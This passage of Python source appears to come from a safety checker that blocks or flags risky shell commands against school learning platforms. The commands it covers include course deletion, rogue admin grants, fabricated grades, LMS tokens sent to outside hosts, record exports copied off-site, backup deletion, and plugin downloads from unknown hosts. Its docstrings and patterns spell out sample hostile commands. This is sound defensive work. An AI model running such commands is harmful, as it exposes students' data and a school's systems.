                a.review(RULE, f"`{cmd.name} -X PUT …/courses/N` with `event=delete` deletes the Canvas course with "
                               "its students' submissions and grades: have a person confirm, or export the course "
                               "first", cmd.node)
                return
            if lt.CANVAS_ADMINS.search(url):
                _admins(a, cmd.node, f"`{cmd.name} -X {r.verb} …/admins`", "makes a Canvas account administrator")
                return
            body = None
            if "developer_keys" in url:
                body = request_body(a, cmd, r)
                for m in re.finditer(r"https?://[^\s\"'&]{1,300}", body):
                    who = lt.outsider_url(m.group(0), input_text(a))
                    if who is not None and "redirect" in body:
                        a.block("privilege-escalation", f"`{cmd.name}` makes a Canvas developer key that redirects to "
                                                        f"{who}: every user who authorises it hands that host a token "
                                                        "for their account. Create developer keys only for the "
                                                        "organisation's own tools", cmd.node)
                        return
            if "/submissions/" in url and lt.literal_student(url):
                body = body if body is not None else request_body(a, cmd, r)
                if lt.api_grade_max(body):
                    a.block("system-write", f"`{cmd.name}` posts the assignment's full marks as the grade of the "
                                            "student the command names: a grade nobody gave. Grades are the "
                                            "teacher's to enter", cmd.node)
                    return
                if lt.full_marks(body):
                    a.review("system-write", f"`{cmd.name}` gives the student the command names full marks: a person "
                                             "should confirm it is the teacher's grade", cmd.node)
                    return


def _token(a, cmd: Cmd) -> None:
    """A learning platform's credential in a request's URL, body or header (`?wstoken=$MOODLE_TOKEN`, `-d
    "client_secret=$EDX_CLIENT_SECRET"`, `-H "Authorization: Bearer $CANVAS_TOKEN"`) to a host that is not the
    school's (lms_tables.token_sent): blocked to a stranger, reviewed to a lone host nothing ties to the school."""
    if not in_input(lt.LMS_SECRET_B, a.doc.data) or not any("$" in w.text for w in cmd.args):
        return
    from .api_calls import remote
    from .net import _secrets_in, _url_assigned, http_requests

    reader = http_requests(cmd.name)
    if reader is None:
        return
    headers = option_value(cmd.args, "-H", "--header") if cmd.name in ("curl", "wget") else []
    for r in reader(cmd.args):
        for u in [_url_assigned(a, u) for u in r.urls]:
            host = remote(u)
            if not host or host == "?":
                continue
            names = [n for w in (u, *r.bodies, *headers) for n in _secrets_in(a, w.text, w.node) if lt.lms_secret(n)]
            if not names:
                continue
            found = lt.token_sent(u.value if u.value is not None else u.text.strip("\"'"), host, input_text(a))
            if found is not None:
                (a.block if found[0] == "block" else a.review)(
                    "exfiltration", lt.token_message(f"`{cmd.name}`", "$" + names[0], *found), cmd.node)
            return


# -- exports of the school's records copied to another machine --------------------------------------------------------
def _copied(a, cmd: Cmd) -> None:
    from ..hosts import public_ip
    from .brokers import destinations

    files = [v for v in _vals(cmd) if v and not v.startswith("-") and ":" not in v and lt.records_file(v)]
    if not files:
        return
    for h in destinations(cmd):
        if not h or h == "?":
            continue
        if public_ip(h):
            a.review("exfiltration", f"`{cmd.name}` copies {files[0]}, an export of the school's records (its people, "
                                     f"grades or a course backup), to {h}, a bare address no name vouches for: a "
                                     "person should confirm it is the school's own server", cmd.node)
            return
        who = lt.stranger(None, h.lower())
        if who is not None:
            a.block("exfiltration", f"`{cmd.name}` copies {files[0]}, an export of the school's records, to {who}: "
                                    "the students' data leaves the school's systems", cmd.node)
            return


# -- course backups deleted -------------------------------------------------------------------------------------------
_BACKUPS = re.compile(r"(?i)\.mbz\b|(?:^|/)(?:backups?|moodlebackups?|course[-_]?backups?)(?:/|$)")
# Moodle's scratch (`moodledata/temp/backup`: a backup in progress, `cache`, `localcache`, `trashdir`), and a folder of
# a project in a home directory (`~/moodle-docker/backups`: a developer's environment), are no one's backups
_SCRATCH = re.compile(r"(?i)/(?:temp|tmp|cache|localcache|trashdir|sessions)/")
_HOME_PROJECT = re.compile(r"^(?:~|/home/[^/]+|/Users/[^/]+)/(?!backups?/)[^/]+/")


def _backup_target(v: str) -> bool:
    """A course backup outside the working tree: a `.mbz`, or a path under a `backups` folder of the machine."""
    if not v.startswith(("/", "~")) or v.startswith(("/tmp/", "/var/tmp/", "/dev/shm/")) or _SCRATCH.search(v) or \
            _HOME_PROJECT.match(v):
        return False
    return _BACKUPS.search(v) is not None


def _kept(path: str, names: list[str]) -> str:
    return "the course backups (`.mbz`: a course's users, submissions and grades) kept there" if ".mbz" in path or \
        any(".mbz" in n for n in names) else "the backups kept there"


def _age_days(v: str, per_day: int) -> int | None:
    """`+30` of `-mtime +30` in days (`per_day` units to a day: 1440 for `-mmin`), or None when it is not `+N`."""
    n = v[1:]
    return int(n) // per_day if v.startswith("+") and n.isascii() and n.isdigit() and len(n) < 10 else None


def _find_delete(a, cmd: Cmd) -> None:
    vals = _vals(cmd)
    if "-delete" not in vals and not ("-exec" in vals and any(v in ("rm", "/bin/rm") for v in vals)):
        return
    roots = [v for v in vals if v and not v.startswith("-")][:1]
    names = [w.value or "" for w in option_value(cmd.args, "-name", "-iname", "-path")]
    # (a rotation that keeps a week or more is the backups' ordinary upkeep; `-mtime +0` or none deletes them all)
    ages = [_age_days(w.value or "", 1) for w in option_value(cmd.args, "-mtime", "-ctime")] + \
        [_age_days(w.value or "", 1440) for w in option_value(cmd.args, "-mmin", "-cmin")]
    if any(d is not None and d >= 6 for d in ages):
        return
    if roots and _backup_target(roots[0]) and (_BACKUPS.search(roots[0]) or any(".mbz" in n for n in names)):
        a.review(RULE, f"`find {roots[0]} … -delete` deletes {_kept(roots[0], names)}: once gone, what they "
                       "saved cannot be restored. Have a person confirm the retention, or move them to the "
                       "organisation's archive first", cmd.node)


def _rm(a, cmd: Cmd) -> None:
    for v in _vals(cmd):
        if v and not v.startswith("-") and _backup_target(v):
            a.review(RULE, f"`rm {v}` deletes {_kept(v, [])} outside the project: once gone, what they saved "
                           "cannot be restored. Have a person confirm, or move them to the organisation's archive "
                           "first", cmd.node)
            return


# -- an LTI registration or a verifying function written from the shell ----------------------------------------------
def _written(a, cmd: Cmd) -> None:
    """`cat > lti.json <<'EOF'`, `tee config/lti.yaml`, `printf … > .env`: an LTI registration whose key set or login
    endpoint is at an outsider's host (as python/lms.py judges the same file written from code); a verifying function
    that returns the token decoded, in a code file bash/written.py does not reach (`.tsx`, `.jsx`: the ones it reaches
    are judged by lms_tables.judge_also)."""
    from .admin import written_text
    from .files import written_file
    from .written import CODE_TARGET

    targets = [w for w in positionals(cmd.args) if w.value] if cmd.name in ("tee", "sponge") else []
    out = written_file(a, cmd.redirects) if cmd.redirects else None
    paths_ = [(w, w.value) for w in targets] + ([(None, out)] if out else [])
    for w, path in paths_:
        text = written_text(a, cmd, w)
        if not text:
            continue
        found = lt.lti_written(text, path, input_text(a))
        if found is not None:
            a.block("privilege-escalation", lt.lti_message(f"`{cmd.name}` writes {path},", *found), cmd.node)
            return
        if not CODE_TARGET.search(path) and lt.judge_also(a, path, text, cmd.node):
            return


# -- the same tools run in a container (moodle-docker, Bitnami's images, a Helm chart's pod) --------------------------
_INSIDE = frozenset({"php", "moosh", "mysql", "mariadb", "psql", "tutor"})


def _inside(a, cmd: Cmd) -> None:
    """`docker exec -u www-data moodle php admin/cli/cfg.php …`, `kubectl exec deploy/moodle -- php …`, `docker
    compose exec db mysql moodle -e …`: the command the container runs, judged as here (infra.run_inside)."""
    from .infra import run_inside

    inner = run_inside(cmd)
    if inner is not None and inner.name in _INSIDE:
        for fn in HANDLERS[inner.name]:
            fn(a, inner)


# -- a plugin from an unknown host installed ---------------------------------------------------------------------------
_PLUGIN_DIRS = (r"(?:blocks|mod|local|theme|auth|enrol|filter|report|admin/tool|question/type|question/behaviour|"
                r"repository|lib/editor|course/format|availability/condition|plagiarism|grade/report|grade/export|"
                r"grade/import|message/output|media/player|payment/gateway|webservice|portfolio|format)")
# a plugin folder of the site's code an archive is unpacked or copied into (`unzip x.zip -d /var/www/moodle/blocks/`)
_PLUGIN_PATH = re.compile(r"/" + _PLUGIN_DIRS + r"/?(?=[\s'\"]|$)")
_UNPACKS = re.compile(r"\b(?:unzip|tar|bsdtar|7z|cp|mv|rsync)\b")
_FETCHED = re.compile(r"(?i)(?:https?|ftp)://[^\s'\"]{1,300}")


def _unpacked_into_site(text: str) -> bool:
    if _UNPACKS.search(text) is None:
        return False
    for m in _PLUGIN_PATH.finditer(text):
        start = max(text.rfind(" ", 0, m.start()), text.rfind("=", 0, m.start()), m.start() - 300)
        if re.search(r"moodle|www|html", text[start:m.start()]):
            return True
    return False


@lru_cache(maxsize=8)
def _stranger_plugin(text: str) -> str | None:
    """The host a plugin unpacked into the site's code is downloaded from, when that is neither Moodle's directory, a
    code host nor the organisation's (or any host over plain HTTP); None otherwise. Once per input."""
    if not re.search(r"\b(?:curl|wget)\b", text) or not _unpacked_into_site(text):
        return None
    from ..hosts import url_host

    words = lt.org_words(text)
    for url in dict.fromkeys(m.group(0) for m in _FETCHED.finditer(text)):
        host = (url_host(url) or "").lower()
        if not host or "$" in host:
            continue
        known = lt.plugin_host(host) or lt.under(host, lt.LMS_SERVICES) or \
            any(w in host for w in words)
        if known and not url.lower().startswith("http://"):
            continue
        return host
    return None


def _plugin_installed(a, cmd: Cmd) -> None:
    """`curl -o b.zip http://x.cc/block.zip && unzip b.zip -d moodle/blocks/ && php admin/cli/upgrade.php`."""
    host = _stranger_plugin(input_text(a))
    if host is not None:
        a.block("download-exec", f"`upgrade.php` installs the plugin this input downloads from {host} (neither "
                                 "Moodle's plugin directory, a code host nor the organisation's own) into the site's "
                                 "code: its install code runs at once, with the site's database and every user's "
                                 "data. Install plugins from moodle.org or the organisation's repository, after a "
                                 "person has checked them", cmd.node)


# the shell's writers of literal text into a file (bash/admin.written_text reads what they write)
_WRITERS = ("cat", "tee", "sponge", "echo", "printf")
HANDLERS: dict = {
    "php": [_php], "moosh": [_moosh], "tutor": [_tutor], "rails": [_rails],
    **{n: [_sql_client] for n in ("mysql", "mariadb", "psql")},
    **{n: [_sent] for n in NET_SENDERS},
    "find": [_find_delete], "rm": [_rm],
    **{n: [_inside] for n in ("docker", "podman", "nerdctl", "docker-compose", "podman-compose", "kubectl", "oc")},
}
for _n in ("curl", "wget", "http", "https", "xh"):
    HANDLERS[_n] += [_api, _token]
for _n in ("scp", "rsync", "sftp"):
    HANDLERS[_n].append(_copied)
for _n in _WRITERS:
    HANDLERS.setdefault(_n, []).append(_written)

_INSIDE_SCREEN = re.compile(r"(?:^|[\s/])(?:php[\d.]*|moosh|mysql|mariadb|psql|tutor)(?=\s|$)")
_RECORDS_WORDS = re.compile(r"(?i)oneroster|roster|gradebook|grades|enrol|students|learners|transcript|sis|"
                            r"submissions|attendance|classlist|\.mbz")
# the words each handler reads (quotes and backslashes removed), for the shortcut (bash/fastpath.py)
_SQL_SCREEN = re.compile(r"(?i)config|grade|score|submission|attempt|result|plagiarism|turnitin|similarity|lti|"
                         r"enrol|transcript|attendance|completion|log|page_views|auditor|role_assign|account_users")
_SENT_SCREEN = mentions("printvalue", "printroot", "cfg.php", "redis-cli", "valkey-cli", "keydb-cli", "/api/v1/",
                        "wsfunction", "/api/user/", "/api/enrollment", "/api/grades", "/d2l/api", "/learn/api",
                        "oneroster", "/membership", "/admins", "developer_keys", "/submissions/", "names_and_roles",
                        "/courses/", "Connection", "manage.py", "$", "@")
SCREENS: dict = {
    "php": mentions("cli/"),
    "moosh": mentions("config-set", "-delete", "course-reset", "user-mod", "sql-run"),
    "tutor": mentions("createuser", "manage.py", "printvalue"),
    # (a container's command: one of the programs above run there, and that program's screen)
    **{n: (lambda text: _INSIDE_SCREEN.search(text) is not None and (
        SCREENS["php"](text) or SCREENS["moosh"](text) or SCREENS["tutor"](text) or
        _SQL_SCREEN.search(text) is not None))
       for n in ("docker", "podman", "nerdctl", "docker-compose", "podman-compose", "kubectl", "oc")},
    "rails": lambda text: ("runner" in text or " r " in text) and ("DeveloperKey" in text or _MINTS.search(text)
                                                                    is not None or lt.api_grade_max(text)),
    **{n: (lambda text: _SQL_SCREEN.search(text) is not None) for n in ("mysql", "mariadb", "psql")},
    **{n: _SENT_SCREEN for n in NET_SENDERS},
    **{n: (lambda text: _SENT_SCREEN(text) or _RECORDS_WORDS.search(text) is not None) for n in ("scp", "rsync",
                                                                                              "sftp")},
    "find": mentions(".mbz", "backup", fold=True),
    "rm": mentions(".mbz", "backup", fold=True),
}
# (_written: an LTI registration's trust settings, or a decode a verifying function returns, in the written text)
_WRITTEN_SCREEN = mentions("key_set", "keyset", "jwks", "jwk_set", "auth_login", "authlogin", "auth_token", "authtoken",
                           "accesstoken", "access_token_url", "access_token_endpoint", "access_tokenurl",
                           "access_tokenendpoint", "authenticationendpoint", "authentication_endpoint", "decodejwt",
                           "jwtdecode", "jwt_decode", "jwt.decode", "jsonwebtoken.decode", "get_unverified_claims",
                           fold=True)
for _n in _WRITERS:
    SCREENS[_n] = _WRITTEN_SCREEN

